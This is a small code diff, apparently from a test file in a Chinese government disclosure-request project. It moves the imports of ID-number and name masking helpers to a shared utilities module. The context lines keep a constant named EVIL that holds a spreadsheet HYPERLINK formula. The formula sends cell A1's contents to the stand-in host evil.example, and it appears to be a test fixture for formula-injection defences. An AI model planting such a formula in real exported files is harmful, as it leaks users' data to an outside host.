@@ -13,8 +13,6 @@ from zwgk.disclosure_requests.ledger import (
     ledger_queryset,
     ledger_response,
     ledger_rows,
-    mask_id_number,
-    mask_name,
 )
 from zwgk.disclosure_requests.models import (
     Consultation,
@@ -22,6 +20,7 @@ from zwgk.disclosure_requests.models import (
     DisclosureRequest,
     RequestEvent,
 )
+from zwgk.utils.masking import mask_id_number, mask_name
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 
